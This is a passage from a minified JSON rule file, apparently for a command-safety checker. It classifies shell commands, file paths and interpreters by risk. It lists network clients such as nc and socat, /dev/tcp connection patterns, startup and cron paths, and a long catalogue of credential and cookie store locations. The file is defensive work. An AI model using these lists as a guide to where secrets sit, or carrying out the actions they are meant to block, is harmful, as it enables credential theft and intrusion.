-,"sub","lambda","yield","case","default","label","goto","defer","finally"],"showing_functions":["getsource","getsourcelines","signature","getdoc","getfile","cal\
-lable","isfunction","repr","isinstance","issubclass"],"function_fields":["length","__name__","__doc__","__defaults__","__annotations__","__module__","__qualname\
-__"],"suspending":["await","yield"],"continuing":["else","catch","finally","while","instanceof","in","of","as","from","do"],"changing":["global","nonlocal","for\
-","as","case","del"],"setting":["=",":=","+=","??=","||="],"later":["lambda","def","function","atexit","Timer","Thread","submit"],"ending":["endswith","endsWith\
-"],"alternating":["||","!","?","??","^",":="],"prefix_signs":["+","-","!","~","*","**","...","&","\\\\","++","--","@","$"],"block_lists":["map","grep","sort","fir\
-st","any","all"],"perl_declaring":["my","our","local"],"file_programs":["rm","rmdir","mv","cp","ln","chmod","chown","touch","mkdir"],"deleting_programs":["rm","\
-truncate","shred"],"destructive_programs":["rm","rmdir","eval","truncate","mv","chmod","chown"]}},"paths":{"classes":{"root":"\`/\` itself, or everything in it.",\
-"system":"Folders of the operating system and their contents.","system-tree":"Such a folder itself, or one of its main parts: /etc/ssl, /usr/lib, /var/lib.","lo\
-cal-system":"Parts of the system for local additions: /usr/local, /opt, package sources.","home":"A home folder itself, or all of several.","personal":"Direct c\
-hild of a home, or of a folder of personal files.","outside":"Deeper in a home, or anywhere else outside the workspace.","workspace":"The workspace itself, ever\
-ything in it, or a folder above it.","source":"Near the top of the workspace, and not produced by a build.","source-folder":"Of these, a folder by whose name pr\
-ojects keep what people wrote; others may be what the agent made itself.","inner":"Deeper in the workspace, and not produced by a build.","disposable":"Produced\
- anew by a build, test or package manager.","temp":"Inside a folder for temporary files.","temp-root":"Such a folder itself, or everything in it.","vcs":"Store \
-of a version control system: \`.git\`.","vcs-config":"Hooks and configuration of version control.","credentials":"Secrets: keys, tokens, passwords.","credentials-\
-by-name":"\\"credentials\\" in the name of source code or a text: protected from edit tools alone.","handed-over":"Secrets in \`.env\` that the shell hands to progr\
-ams: \`source .env\`.","from-template":"The same, as a copy of the template beside it.","accounts":"Users and permissions: passwd, sudoers, PAM.","account-secrets\
-":"Of these, all but the list of names that every program reads: /etc/passwd.","authorized-keys":"Keys that may log in.","startup":"Read by shells, desktops and\
- interpreters at start-up.","schedule":"Cron, timers, services.","device":"Disks.","kernel":"Switches and memory of the kernel.","socket":"Sockets that control \
-a machine.","connection":"\`/dev/tcp/\\u2026\`: a connection to another machine.","local-connection":"The same to this machine, or to a container beside it.","nowh\
-ere":"\`/dev/null\`.","endless":"Devices without an end: \`/dev/zero\`.","data":"Dumps, backups, databases, lists of people.","logs":"Evidence kept by the system: l\
-ogs, histories.","unknown":"Unknown before the command runs.","unknown-folder":"Everything in a folder whose name is unknown, and may be empty: all of the machi\
-ne then."},"purposes":{"connection":{"form":"^/dev/(?:tcp|udp)/(?!(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/)"},"local-connection":{"fo\
-rm":"^/dev/(?:tcp|udp)/(?:localhost|127\\\\.[\\\\d.]+|0\\\\.0\\\\.0\\\\.0|\\\\[?::1\\\\]?|[a-z][\\\\w-]*)/"},"nowhere":{"form":"^/dev/(?:null|zero|full|random|urandom)$"},"endl\
-ess":{"form":"^/dev/(?:zero|full|u?random)$"},"startup":{"form":"^(~/)?\\\\.(bashrc|bash_profile|bash_login|bash_logout|bash_aliases|profile|zshrc|zshenv|zprofile\
-)$|^(~/)?\\\\.(zlogin|zlogout|kshrc|cshrc|tcshrc|login|xprofile|xinitrc|xsession|xsessionrc|shrc)$|^(~/)?\\\\.(mkshrc|bash_env|inputrc|pam_environment)$|^~/\\\\.confi\
-g/(fish/|autostart(/|$)|environment\\\\.d(/|$)|nvim/init\\\\.|plasma-workspace/env)|^~/\\\\.(vimrc|emacs|pythonrc|pythonstartup|gdbinit|tmux\\\\.conf|ssh/rc|ssh/environ\
-ment|ssh/config)|^~/\\\\.(oh-my-zsh/)|^~/\\\\.(local/lib/python[^/]*/site-packages/.*(\\\\.pth|sitecustomize\\\\.py|usercustomize\\\\.py))|^/etc/(profile(\\\\.d(/.*)?)?|bas\
-h\\\\.bashrc|bashrc|zsh(/.*|rc|env)|environment)$|^/etc/(ld\\\\.so\\\\.(preload|conf)(\\\\.d/.*)?|rc\\\\.local|xdg/autostart/.*|skel/.*|fish/.*)$|^/etc/(update-motd\\\\.d/.\
-*|inputrc)$|(^|/)(sitecustomize|usercustomize)\\\\.py$|/(site|dist)-packages/[^/]+\\\\.pth$","home":true},"schedule":{"form":"^/etc/(cron[^/]*(/.*)?|anacrontab|syst\
-emd/.*|init\\\\.d(/.*)?|rc\\\\d?\\\\.d(/.*)?|inittab|init/.*)$|^/var/spool/(cron|at)|^(/usr)?/lib/systemd/|^/run/systemd/|^~/\\\\.config/systemd(/|$)|^~?/library/launch\
-(agents|daemons)(/|$)|^/library/launch|^~/\\\\.config/cron|^/usr/local/etc/rc\\\\.d/|^(/usr)?(/lib|/etc)/udev/rules\\\\.d/|^/etc/polkit-1/","home":true},"authorized-k\
-eys":{"form":"(^|/)\\\\.ssh/authorized_keys2?$|^/etc/ssh/(sshd_config|authorized_keys)"},"accounts":{"form":"^(/usr/local)?/etc/(passwd-?|master\\\\.passwd|shadow-?\
-|gshadow-?|sudoers(\\\\.d(/.*)?)?|pam\\\\.d(/.*)?)$|^(/usr/local)?/etc/(security/.*|doas\\\\.conf|login\\\\.defs|subuid|subgid|pass\\\\S*[*?]\\\\S*)$"},"account-secrets":{"\
-form":"^(/usr/local)?/etc/(?!passwd$)(passwd-?|master\\\\.passwd|shadow-?|gshadow-?|sudoers(\\\\.d(/.*)?)?)$|^(/usr/local)?/etc/(?!passwd$)(pam\\\\.d(/.*)?|security/.\
-*|doas\\\\.conf|login\\\\.defs|subuid|subgid)$|^(/usr/local)?/etc/(?!passwd$)(pass\\\\S*[*?]\\\\S*)$|^/usr/local/etc/passwd$"},"device":{"form":"^/dev/((sd|hd|vd|xvd)[a\
--z*?]+[\\\\d*?]*|nvme\\\\d.*|mmcblk.*|disk\\\\d?.*|rdisk.*|md\\\\d+|dm-\\\\d+|mapper/.*)$|^/dev/(loop\\\\d+|nbd\\\\d+|mem|kmem|port|disk/.*|vg\\\\w*/.*)$"},"kernel":{"form":"^/\
-(proc/(sys|sysrq-trigger|kcore|\\\\d+/mem|kmsg)|sys/|boot/)"},"socket":{"form":"(^|/)(docker|containerd|podman|crio)\\\\.sock$"},"vcs-config":{"form":"^(~/\\\\.gitcon\
-fig|~/\\\\.config/git/|/etc/gitconfig)"},"data":{"form":"(^|[-_./])(dumps?|backups?|customers?|users|clients|payroll|salar(y|ies)|patients?)([-_./]|$)|(^|[-_./])(\
-employees|database|production[-_]?data|private|confidential|secrets?|prod)([-_./]|$)|\\\\.(sql|sql\\\\.gz|dump|sqlite3?|db|bak|mdb|rdb|pst|mbox|kdbx)$"},"logs":{"fo\
-rm":"^/var/(log|audit)(/|$)|(^|/)\\\\.(bash|zsh|sh|python|mysql|psql|node_repl)_history$|^/run/log"}},"words":{"system_folders":["bin","boot","dev","etc","lib","l\
-ib32","lib64","libx32","opt","proc","root","run","sbin","srv","sys","usr","var","system","library","applications","snap","nix","lost+found"],"root_folders":["bo\
-ot","dev","etc","proc","root","sys","usr"],"personal_folders":["documents","desktop","pictures","downloads","music","videos","movies","photos","library",".confi\
-g",".local",".mozilla"],"credentials":[".netrc","_netrc",".npmrc",".pypirc",".pgpass",".my.cnf",".mylogin.cnf",".git-credentials",".htpasswd",".dockercfg",".s3c\
-fg",".boto",".vault-token",".envrc",".terraformrc",".yarnrc.token","kubeconfig","master.key","wallet.dat","login.keychain-db","key4.db","logins.json","shadow","\
-gshadow","shadow-","gshadow-","environ","admin.conf","secring.gpg",".bash_history",".zsh_history",".python_history",".psql_history",".mysql_history",".node_repl\
-_history","tnsnames.ora",".secrets",".secret",".passwd-s3fs","rclone.conf",".credentials"],"disposable":["node_modules","bower_components","jspm_packages","dist\
-","dist-ssr","build","builds","_build","out","output","outputs","target","bin","obj","coverage","htmlcov",".nyc_output",".next",".nuxt",".output",".svelte-kit",\
-".turbo",".cache","cache","caches",".parcel-cache",".vite",".angular",".gradle",".venv","venv","env","virtualenv",".virtualenv","__pycache__",".pytest_cache",".\
-mypy_cache",".ruff_cache",".tox",".nox",".eggs",".hypothesis",".ipynb_checkpoints",".terraform",".serverless",".vercel",".netlify",".docusaurus",".eslintcache",\
-".stylelintcache","storage/framework/views","storage/framework/cache",".coverage","coverage.xml","lcov.info","builddir","storybook-static","public/build","publi\
-c/packs","vendor","vendor/bundle","tmp","temp",".tmp",".temp","logs","log","generated","gen",".generated","__generated__","artifacts","artifact","reports","repo\
-rt","test-results","test-reports","test-output","test_output","playwright-report","allure-results","allure-report","junit.xml","deps",".bundle","cmake-build-deb\
-ug","cmake-build-release","cmakefiles","cmakecache.txt","debug","release",".stack-work","dist-newstyle",".dart_tool","deriveddata","pods",".build",".swiftpm","e\
-lm-stuff","zig-out","zig-cache","nimcache",".zig-cache","scratch",".scratch","_site",".jekyll-cache",".sass-cache","bench-results",".pnpm-store","package-lock.j\
-son","yarn.lock","pnpm-lock.yaml","poetry.lock",".ds_store","thumbs.db","nohup.out","a.out","lib-cov","typings","wheelhouse",".aws-sam","cdk.out",".elixir_ls","\
-.lexical",".metals",".bloop",".bsp",".ccls-cache",".scannerwork",".snakemake",".cxx","bazel-out","bazel-bin","bazel-testlogs",".astro",".externalnativebuild",".\
-expo",".vuepress",".docusaurus",".vinxi",".nitro",".wxt",".yarn/cache",".rpt2_cache",".fusebox",".dynamodb",".nx","lerna-debug.log",".phpunit.result.cache",".ph\
-punit.cache",".direnv","mlruns","wandb","lightning_logs","runs","checkpoints/tmp","snapshots","__snapshots__","__image_snapshots__","screenshots"],"project_outp\
-uts":["resources/_gen","stage","pkgroot","rootfs","appdir",".vs","xcuserdata",".libs",".firebase",".apt_generated","web_modules","vcpkg_installed","develop-eggs\
-","bin-debug","bin-release","sdist","out-tsc","opencover","paket-files","meson-logs","nbbuild","nbdist","nimblecache","msbuild_logs","htmldocs","gwt-unitcache",\
-"codecoverage","cover_db","cython_debug","ipch","lib_managed","src_managed","project/boot","project/target","blib","build_isolated","devel_isolated","benchmarkd\
-otnet.artifacts","test-report","tests_output","_yardoc","__pypackages__","__marimo__","__macosx",".yardoc",".virtual_documents",".pytype",".pyre",".pybuilder","\
-.pub",".pdm-build",".mooncakes",".ng",".nb-gradle",".lein-plugins",".lake",".kitchen",".ionide",".htf",".godot",".import",".expo-shared",".ensime_cache",".eask"\
-,".cpcache",".cdk.staging",".buildlog",".artifacts",".ansible",".ammonite",".rts2_cache_cjs",".rts2_cache_es",".rts2_cache_umd",".symlinks","blob-report","tfpla\
-n","tfplan.binary","tfplan.out","_autosummary","latex.out","slprj",".stryker-tmp",".swc",".wrangler",".sst",".open-next",".contentlayer",".lighthouseci",".jest-\
-cache",".rollup.cache",".kotlin",".scala-build","intermediate","deriveddatacache","library/bee","library/scriptassemblies","library/packagecache","library/artif\
-acts","library/shadercache","flutter/ephemeral"],"source_folders":["src","source","sources","lib","libs","app","apps","test","tests","spec","specs","__tests__",\
-"e2e","integration","doc","docs","documentation","packages","modules","module","components","pages","routes","server","client","clients","api","backend","fronte\
-nd","web","www","site","core","internal","cmd","pkg","pkgs","script","scripts","config","configs","configuration","settings","public","static","assets","images"\
-,"img","media","data","dataset","datasets","db","database","databases","migrations","models","model","views","controllers","services","service","utils","util","\
-helpers","common","shared","include","bin","tool","tools","examples","samples","templates","styles","css","resources","i18n","locale","locales","fixtures","plug\
-ins","plugin","extensions","themes","infra","infrastructure","terraform","deploy","deployment","k8s","kubernetes","charts","helm","ansible","docker","ci",".gith\
-ub",".gitlab",".circleci",".vscode",".idea",".husky","notebooks","crates","contracts","proto","protos","schema","schemas","android","ios","macos","windows","lin\
-ux","functions","lambdas","middleware","hooks","stores","types","interfaces","main","java","kotlin","resources","benches","benchmarks","bench","vendor","third_p\
-arty","native","engine","kernel","drivers","firmware","game","content","posts","blog","articles","book","wiki"],"source_endings":["ts","tsx","js","jsx","mjs","c\
-js","mts","cts","py","pyi","go","rs","java","kt","kts","rb","php","cs","c","cc","cpp","h","hpp","swift","scala","ex","exs","erl","clj","lua","dart","vue","svelt\
-e","css","scss","htm","html","md","mdx","rst","adoc","snap","sql","sh","bats","proto","graphql","tf","feature","png","svg"],"file_endings":["ts","tsx","js","jsx\
-","mjs","mjsx","cjs","cjsx","mts","cts","json","jsonc","md","mdx","py","rb","go","rs","c","h","cc","cpp","hpp","java","kt","kts","swift","php","sh","yml","yaml"\
-,"toml","lock","txt","css","scss","htm","html","vue","svelte","sql","xml","ini","cfg","conf","csv","tf","proto","ex","exs","scala","cs","lua","ipynb","snap","sv\
-g","gradle","mod","sum"],"files":["gradlew","mvnw","configure","makefile","gnumakefile","justfile","dockerfile","gemfile","rakefile","procfile","version","licen\
-se","readme","codeowners"]},"credential_stores":"\\\\.gnupg|\\\\.aws|\\\\.azure|\\\\.password-store|\\\\.oci|\\\\.aliyun|\\\\.kube/config|\\\\.kube/cache|\\\\.docker/config\\\\.jso\
-n|\\\\.config/gcloud|\\\\.config/gh|\\\\.config/hub|\\\\.config/doctl|\\\\.config/rclone|\\\\.config/op|\\\\.config/sops|\\\\.config/glab-cli|\\\\.config/hcloud|\\\\.config/scw|\\\\.\
-config/linode-cli|\\\\.config/fly|\\\\.fly/config\\\\.yml|\\\\.config/netlify|\\\\.netlify/config\\\\.json|\\\\.config/configstore|\\\\.heroku/netrc|\\\\.config/stripe|\\\\.config/\
-ngrok|\\\\.ngrok2|\\\\.config/github-copilot|\\\\.config/solana|\\\\.config/filezilla|\\\\.filezilla|\\\\.config/composer/auth\\\\.json|\\\\.composer/auth\\\\.json|\\\\.config/pip/\
-pip\\\\.conf|\\\\.pip/pip\\\\.conf|\\\\.config/railway|\\\\.railway/config\\\\.json|\\\\.config/vercel|com\\\\.vercel\\\\.cli/auth\\\\.json|\\\\.supabase/access-token|\\\\.pulumi/crede\
-ntials\\\\.json|\\\\.circleci/cli\\\\.yml|\\\\.travis/config\\\\.yml|\\\\.sentryclirc|\\\\.twilio-cli|\\\\.auth0|\\\\.lpass|\\\\.jira\\\\.d|\\\\.mc/config\\\\.json|\\\\.rancher/cli2\\\\.json\
-|\\\\.config/argocd/config|\\\\.okta/okta\\\\.yaml|\\\\.exoscale|\\\\.bluemix|\\\\.snowflake|\\\\.databrickscfg|\\\\.kaggle/kaggle\\\\.json|\\\\.huggingface/token|\\\\.cache/huggingf\
-ace/token|\\\\.codex/auth\\\\.json|\\\\.claude/\\\\.credentials\\\\.json|\\\\.gemini/oauth_creds\\\\.json|\\\\.cargo/credentials[^/]*|\\\\.gem/credentials|\\\\.terraform\\\\.d/creden\
-tials[^/]*|\\\\.m2/settings\\\\.xml|\\\\.m2/settings-security\\\\.xml|\\\\.gradle/gradle\\\\.properties|\\\\.local/share/keyrings|\\\\.local/share/kwalletd|library/keychains|\\\\\
-.mozilla/firefox|\\\\.thunderbird|google-chrome[^/]*/default|google-chrome[^/]*/profile[^/]*|chrome/default|chrome/profile[^/]*|chromium/default|chromium/profile[\
-^/]*|brave-browser/default|microsoft-edge[^/]*/default|\\\\.purple/accounts\\\\.xml|google-chrome[^/]*/[^/]*/cookies|chromium/[^/]*/cookies|brave-browser/[^/]*/cook\
-ies|microsoft-edge[^/]*/[^/]*/cookies|\\\\.cache/msal[^/]*|\\\\.subversion/auth|\\\\.ethereum/keystore|\\\\.bitcoin|\\\\.electrum|\\\\.vnc/passwd|\\\\.rediscli_auth|\\\\.wpa_su\
-pplicant|run/secrets|etc/ssl/private|etc/ssh/ssh_host_[^/]*_key|etc/kubernetes/admin\\\\.conf|etc/kubernetes/pki|etc/krb5\\\\.keytab|etc/wpa_supplicant|etc/networkm\
-anager/system-connections|etc/letsencrypt/live/[^/]*/privkey[^/]*\\\\.pem|etc/letsencrypt/archive|var/lib/sss/db|tmp/krb5cc_[^/]*|etc/master\\\\.passwd|etc/security\
-/opasswd","credential_samples":[".env",".env.local",".env.production","credentials","credentials.json","secrets.yml","id_rsa","id_ed25519",".netrc",".npmrc",".p\
-ypirc",".pgpass",".git-credentials","shadow"]},"programs":{"words":{"fetchers":["curl","wget","aria2c","http","https","xh","fetch","axel","wget2","Invoke-WebReq\
-uest","iwr","Invoke-RestMethod","irm"],"network_clients":["dig","nslookup","host","drill","kdig","nc","ncat","netcat","socat","telnet","lynx","w3m","links","eli\
-nks","ftp","tftp","lftp","lwp-request","GET","wget2","lwp-download"],"copiers":["cp","mv","ln","install"],"killers":["pkill","killall","skill","slay","taskkill"\
-,"Stop-Process","fuser","start-stop-daemon"],"keepers":["tee","sponge","read","mapfile","readarray","dd","split","cp","install"],"root_wrappers":["sudo","doas",\
-"su","pkexec","run0","runuser","gosu","please"],"script_runners":["sh","bash","dash","ksh","zsh","ash","fish","python","perl","ruby","node","php","source",".","\
-lua","deno","bun","tclsh","rscript"],"machine_programs":["format","halt","init","poweroff","reboot","scrub","sg","shutdown","telinit","transfer","wipe"],"tree_c\
-ommands":["reset","clean","checkout","switch","restore","rm","apply","merge","rebase","cherry-pick","revert","am"],"closed_options":["rm","i","t","d","interacti\
-ve","tty","detach","init","read-only","pull","platform","network","net","e","env","w","workdir","u","user","name","p","publish","m","memory","cpus","read-only",\
-"cap-drop","pids-limit","stop-timeout","entrypoint","hostname","l","label","shm-size","tmpfs","q","quiet"],"body_options":["d","data","data-ascii","data-binary"\
-,"data-raw","data-urlencode","json","post-data","body-data"],"package_verbs":["access","add","approve-builds","audit","autoclean","bin","cache","cat-file","cat-\
-index","check","ci","completion","config","constraints","create","dedupe","deploy","dlx","doctor","env","exec","explain","fetch","find-hash","foreach","generate\
--lock-entry","global","help","i","ignored-builds","import","info","init","install","install-test","it","licenses","link","list","ln","login","logout","ls","m","\
-multi","npm","outdated","owner","pack","patch","patch-commit","patch-remove","plugin","policies","profile","prune","publish","rb","rebuild","recursive","remove"\
-,"rm","root","run","run-script","search","self-update","selfupdate","server","set","setup","stage","start","stop","store","tag","team","test","t","un","uninstal\
-l","unlink","unplug","up","update","upgrade","upgrade-interactive","version","versions","view","whoami","why","with","workspace","workspaces"],"silent":["[","te\
-st","true","false",":","rm","mkdir","touch","chmod","chown","kill","sleep","wait","exit","return","cp","mv","ln"],"risky":["rm","rmdir","unlink","shred","srm","\
-wipe","dd","mkfs","mkfs.ext4","mkfs.xfs","mkfs.btrfs","mkswap","wipefs","fdisk","sfdisk","parted","blkdiscard","truncate","mv","cp","chmod","chown","chgrp","cha\
-ttr","setfacl","ln","tee","cat","curl","wget","nc","ncat","socat","scp","rsync","sftp","ftp","ssh","git","find","xargs","sh","bash","dash","zsh","ksh","sudo","s\
-u","doas","env","eval","python","python3","perl","ruby","node","php","kill","killall","pkill","shutdown","reboot","halt","poweroff","init","systemctl","service"\
-,"crontab","at","useradd","userdel","usermod","passwd","visudo","iptables","nft","ufw","mount","umount","docker","kubectl","helm","terraform","aws","gcloud","az\
-","psql","mysql","dropdb","base64","gpg","openssl","rimraf","trash","insmod","modprobe","sysctl"],"non_runners":["echo","printf","cat","less","more","head","tai\
-l","grep","egrep","fgrep","rg","ag","ack","sed","awk","cut","sort","uniq","wc","tr","diff","cmp","comm","patch","ls","ll","tree","stat","file","touch","mkdir","\
-rmdir","rm","cp","mv","ln","chmod","chown","chgrp","which","whereis","type","whatis","man","info","help","apropos","tldr","hash","test","[","[[","true","false",\
-":","cd","pwd","pushd","popd","dirs","exit","return","break","continue","export","unset","set","shift","read","local","declare","alias","unalias","git","hg","sv\
-n","gh","glab","npm","pnpm","yarn","bun","pip","pip3","pipx","poetry","cargo","rustc","rustup","go","gem","bundle","composer","mvn","gradle","make","cmake","nin\
-ja","bazel","apt","apt-get","aptitude","dpkg","dnf","yum","rpm","pacman","apk","brew","snap","flatpak","zypper","emerge","port","nix","docker","podman","kubectl\
-","helm","terraform","aws","gcloud","az","curl","wget","http","https","nc","ncat","ssh","scp","sftp","rsync","ftp","tar","zip","unzip","gzip","gunzip","bzip2","\
-xz","7z","ar","cpio","jest","mocha","vitest","pytest","tsc","eslint","biome","prettier","vim","vi","nvim","nano","emacs","code","ed","ex","jq","yq","xmllint","p\
-ython","python2","python3","node","deno","ruby","perl","php","java","javac","gcc","g++","clang","lua","Rscript","date","cal","uptime","uname","hostname","whoami\
-","id","groups","who","w","ps","top","htop","kill","killall","pkill","pgrep","jobs","fg","bg","wait","sleep","seq","yes","basename","dirname","realpath","readli\
-nk","mktemp","tee","cksum","md5sum","sha1sum","sha256sum","base64","base32","xxd","od","hexdump","strings","column","fold","fmt","nl","paste","join","split","ex\
-pand","rev","tac","shuf","gpg","openssl","ssh-keygen","ssh-add","systemctl","service","journalctl","dmesg","mount","umount","df","du","free","lsof","ss","netsta\
-t","ip","ifconfig","ping","dig","nslookup","host","traceroute","useradd","userdel","usermod","passwd","crontab","dd","mkfs","truncate","shred","notify-send","sa\
-y","logger","write","wall","mail","psql","mysql","sqlite3","redis-cli","mongosh","sh","bash","dash","zsh","ksh","eval","source",".","trap","fork-bomb","compgen"\
-,"complete","getent","locate","updatedb","apt-cache","apt-file","command","builtin","fzf","bat","exa","eza","fd","dropdb","createdb","shellcheck","shfmt","check\
-bashisms","hadolint"],"filters":["awk","gawk","mawk","yq","fold","fmt","nl","column","paste","join","expand","unexpand","iconv","basenc","uudecode","uuencode","\
-qprint","openssl","gunzip","zcat","bzcat","xzcat","gzip","bzip2","bunzip2","xz","unxz","zstd","unzstd","lz4","m4","cpp","envsubst","recode","rot13","pr","csplit\
-","od","hexdump","hd","ul","colrm","col","ascii2uni","uni2ascii","perl","ruby","pv","mbuffer","bc","dc","shuf","look","comm","tsort","ptx","nkf","cut","base32"]\
-},"interpreters":{"python":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython":{"short":"cmWXQ","long":\
-["check-hash-based-pycs"],"language":"python","code":["c"],"module":["m"]},"ipython3":{"short":"cmWXQ","long":["check-hash-based-pycs"],"language":"python","cod\
-e":["c"],"module":["m"]},"node":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-ex\
-ists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-t\
-race-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":\
-"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"nodejs":{"short":"eprC","long":["eval","print","require","import","loader","experimental-l\
-oader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-direc\
-tory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","t\
-sconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"bun":{"short":"eprC","long":["eval","print",\
-"require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","re\
-direct-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","te\
-st-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"t\
-sx":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type",\
-"title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejec\
-tions","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p"\
-,"eval","print"],"checks":["c","check"]},"ts-node":{"short":"eprC","long":["eval","print","require","import","loader","experimental-loader","conditions","env-fi\
-le","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-dir","report-directory","report-filename","se\
-cure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"option\
-al":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"deno":{"short":"eprC","long":["eval","print","require","import","loader\
-","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","openssl-config","redirect-warnings","report-d\
-ir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-name-pattern","test-reporter","test-reporte\
-r-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":["c","check"]},"zx":{"short":"eprC","long":\
-["eval","print","require","import","loader","experimental-loader","conditions","env-file","env-file-if-exists","config","input-type","title","icu-data-dir","ope\
-nssl-config","redirect-warnings","report-dir","report-directory","report-filename","secure-heap","stack-trace-limit","unhandled-rejections","watch-path","test-n\
-ame-pattern","test-reporter","test-reporter-destination","tsconfig","preload"],"optional":"p","language":"javascript","code":["e","p","eval","print"],"checks":[\
-"c","check"]},"perl":{"short":"eEIMm","language":"perl","code":["e","E"],"checks":["c","MO=Deparse","MO=Concise","MO=Terse"]},"ruby":{"short":"eIrEC","long":["e\
-ncoding","external-encoding","internal-encoding","enable","disable","dump","parser"],"language":"ruby","code":["e"],"checks":["c"]},"rake":{"short":"feER","long\
-":["rakefile","execute"],"permuted":true,"language":"ruby","code":["e","execute"],"files":["f","rakefile"],"operands":"no code","usual":["Rakefile","rakefile","\
-Rakefile.rb"]},"php":{"short":"rBREFfdczS","long":["run","file","process-begin","process-code","process-end","process-file","define","php-ini","server","docroot\
-"],"language":"php","code":["r","run","B","R","E","process-begin","process-code","process-end"],"files":["f","F","file"],"checks":["l"]},"awk":{"short":"fFvieEl\
-","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":\
-"code"},"gawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","code":["e","source"],"files":["f\
-","file","E","exec"],"operands":"code"},"mawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","load","exec"],"language":"awk","\
-code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"nawk":{"short":"fFvieEl","long":["file","field-separator","assign","source","include","\
-load","exec"],"language":"awk","code":["e","source"],"files":["f","file","E","exec"],"operands":"code"},"psql":{"short":"cdfhpUvLoPRTF","long":["command","host"\
-,"port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["c","command"],"files":["f","file"],"operands":"\
-no code"},"mysql":{"short":"ehPuDS","long":["execute","init-command","host","port","user","username","dbname","database","file","set","variable"],"permuted":tru\
-e,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"mariadb":{"short":"ehPuDS","long":["execute","init-command","host","port","user"\
-,"username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute","init-command"],"operands":"no code"},"sqlite3":\
-{"long":["cmd","init","separator","newline","nullvalue"],"permuted":true,"language":"sql","code":["cmd"],"files":["init"],"operands":"database then code"},"sqli\
-te":{"permuted":true,"language":"sql","operands":"database then code"},"duckdb":{"short":"cs","long":["cmd","host","port","user","username","dbname","database",\
-"file","set","variable"],"permuted":true,"language":"sql","code":["c","s","cmd"],"operands":"database then code"},"influx":{"long":["execute","host","port","use\
-r","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["execute"],"operands":"no code"},"snowsql":{"short":"qf","lo\
-ng":["query","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"files":["f"],"o\
-perands":"no code"},"bq":{"long":["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","operands":"data\
-base then code"},"sqlcmd":{"short":"QqSUPdi","long":["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sq\
-l","code":["Q","q"],"files":["i"],"operands":"no code"},"clickhouse":{"short":"qhud","long":["query","host","port","user","password","database"],"permuted":true\
-,"language":"sql","code":["q","query"],"operands":"database then code"},"clickhouse-client":{"short":"qhud","long":["query","host","port","user","username","dbn\
-ame","database","file","set","variable"],"permuted":true,"language":"sql","code":["q","query"],"operands":"no code"},"cockroach":{"short":"eu","long":["execute"\
-,"host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e","execute"],"operands":"no code"},"cql\
-sh":{"short":"efukp","long":["execute","host","port","user","username","dbname","database","file","set","variable"],"permuted":true,"language":"sql","code":["e"\
-,"execute"],"files":["f"],"operands":"no code"},"sqlplus":{"long":["host","port","user","username","dbname","database","file","set","variable"],"permuted":true,\
-"language":"sql","operands":"no code"},"mongo":{"short":"fup","long":["eval","host","port","username","password","file","authenticationDatabase"],"permuted":tru\
-e,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},"mongosh":{"short":"fup","long":["eval","host","port","username\
-","password","file","authenticationDatabase"],"permuted":true,"language":"javascript","code":["eval"],"files":["f","file"],"operands":"database then files"},"re\
-dis-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"valkey-cli":{"short":"hpsanurt","long":["eval"],"language":"s\
-ql","files":["eval"],"operands":"code"},"keydb-cli":{"short":"hpsanurt","long":["eval"],"language":"sql","files":["eval"],"operands":"code"},"cypher-shell":{"sh\
-ort":"aupdf","long":["address","username","password","database","file"],"permuted":true,"language":"sql","files":["f","file"],"operands":"code"},"rman":{"langua\
-ge":"sql","operands":"no code"},"trino":{"short":"f","long":["server","catalog","schema","user","execute","file"],"permuted":true,"language":"sql","code":["exec\
